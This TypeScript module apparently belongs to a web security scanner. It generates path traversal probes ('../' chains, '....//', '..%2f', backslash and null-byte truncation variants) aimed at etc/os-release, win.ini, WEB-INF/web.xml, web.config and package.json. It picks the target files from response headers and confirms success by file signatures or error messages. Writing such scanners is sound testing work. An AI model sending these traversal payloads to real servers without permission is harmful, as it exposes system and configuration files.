import type { InjectionAnswer, InjectionPoint } from '@palisade/scan-engine';

/** A file that each server of a kind has, and how a value climbs to it. */
export interface KnownFile {
  path: string;
  /** The same file, written in another way. */
  same: string;
  /** Of the same folder, and no server has it. */
  missing: (word: string) => string;
  shows: (text: string) => boolean;
  /** For `grep`, what the file has and no page does. */
  sign: string;
  ways: readonly Way[];
}

export interface Way {
  /** For evidence. */
  shows: string;
  /** @param folder of the usual value, with its slash; '' without one */
  write: (path: string, folder: string, value: string) => string;
}

/** Deeper than applications are installed; a climb beyond the root stays there. */
const DEPTH = 10;

const climb = (shows: string, step: string): Way => ({
  shows,
  write: (path, folder) => `${folder}${step.repeat(DEPTH)}${path}`,
});
const relative = (shows: string, start: string): Way => ({ shows, write: (path) => `${start}${path}` });

/** What opens no file of that name, but cuts it at a byte of zero, which hides the ending that the program demands or adds. */
const CUT: Way = {
  shows: '../ and a byte of zero before the ending',
  write: (path, folder, value) =>
    `${folder}${'../'.repeat(DEPTH)}${path}\0${/\.[a-z0-9]{1,5}$/i.exec(value)?.[0] ?? ''}`,
};

const LINUX: KnownFile = {
  path: 'etc/os-release',
  same: 'etc/./os-release',
  missing: (word) => `etc/${word}-release`,
  shows: (text) => text.includes('PRETTY_NAME=') && /[^A-Z_]ID=/.test(text),
  sign: 'PRETTY_NAME=',
  ways: [
    climb('../', '../'),
    relative('the path from the root', '/'),
    climb('....//, for filters that remove ../', '....//'),
    climb('..%2f, encoded once more', '..%2f'),
    CUT,
  ],
};

const WINDOWS: KnownFile = {
  path: 'windows/win.ini',
  same: 'windows/./win.ini',
  missing: (word) => `windows/${word}.ini`,
  shows: (text) => /for 16-bit app support/i.test(text),
  sign: '16-bit app support',
  ways: [
    climb('../', '../'),
    { shows: '..\\', write: (path) => `${'..\\'.repeat(DEPTH)}${path.replaceAll('/', '\\')}` },
    relative('the path from the root', 'C:/'),
    CUT,
  ],
};

/** Containers of Java keep what they open inside the application. */
const JAVA: KnownFile = {
  path: 'WEB-INF/web.xml',
  same: 'WEB-INF/./web.xml',
  missing: (word) => `WEB-INF/${word}.xml`,
  shows: (text) => /(?:<|&lt;)web-app\b/.test(text),
  sign: 'web-app',
  ways: [relative('../', '../'), relative('the path from the root', '/'), relative('../../', '../../')],
};

/** `Server.MapPath` does the same. */
const ASP_NET: KnownFile = {
  path: 'web.config',
  same: './web.config',
  missing: (word) => `${word}.config`,
  shows: (text) => /(?:<|&lt;)system\.web(?:Server)?\b/.test(text),
  sign: 'system.web',
  ways: [relative('../', '../'), relative('the path from the application', '~/')],
};

/** Where a program keeps to its own folder. */
const NODE: KnownFile = {
  path: 'package.json',
  same: './package.json',
  missing: (word) => `${word}.json`,
  shows: (text) => /\\?(?:"|&quot;|&#34;)dependencies\\?(?:"|&quot;|&#34;)\s*:/.test(text),
  sign: 'dependencies',
  ways: [relative('../', '../')],
};

const OF_JAVA = /\.(?:jspx?|do|action|faces|jsf)$/i;
const OF_MICROSOFT = /\.as[hmp]x?$/i;

/** The files of the kind of server that the address and the headers show, the likely ones first. */
export function knownFiles({ url }: InjectionPoint, { headers }: InjectionAnswer): KnownFile[] {
  const { pathname } = new URL(url);
  const has = (names: RegExp, words: RegExp): boolean =>
    headers.some(([name, value]) => names.test(name) && words.test(value));
  const isIis = has(/^server$/i, /microsoft-iis/i);
  const isAspNet = OF_MICROSOFT.test(pathname) || has(/^x-(?:powered-by|aspnet.*)$/i, /asp\.net|^\d+\.\d+/i);
  const isJava =
    OF_JAVA.test(pathname) ||
    has(/^set-cookie$/i, /^jsessionid=/i) ||
    has(/^server$/i, /coyote|tomcat|jetty|wildfly|jboss|glassfish|weblogic|websphere/i);
  const isNode = has(/^x-powered-by$/i, /express|next\.js/i);
  return [
    isIis || isAspNet ? WINDOWS : LINUX,
    ...(isAspNet ? [ASP_NET] : []),
    ...(isJava ? [JAVA] : []),
    ...(isNode ? [NODE] : []),
  ];
}

/** In evidence, which stays the same. */
export const valueFor = (file: KnownFile, way: Way, value: string, path = file.path): string =>
  way.write(path, folderOf(value), value);

const folderOf = (value: string): string => {
  const [, folder = ''] = /^((?:[^/]{1,80}\/){1,6})/.exec(value) ?? [];
  return folder;
};

/** Errors of functions that open files, with the path that the program has made of the value: one more ending, and no folder that would keep it in. */
const NOT_OPENED =
  /No such file or directory|ENOENT|FileNotFoundException|NoSuchFileException|Could not find (?:file|a part of the path)/;
const OPENED = /(?:\.\.\/|[\s'"(]\/)etc\/os-release(\.[a-z]{2,8})\b/i;
const LONGEST_TEXT = 400_000;

/** The ending that a program puts behind a value that climbs, as its error shows it; null without one. */
export function addedEnding(text: string): string | null {
  const start = text.slice(0, LONGEST_TEXT).replaceAll(/&#0?39;|&quot;|&#x27;/g, "'");
  return NOT_OPENED.test(start) ? (OPENED.exec(start)?.[1] ?? null) : null;
}
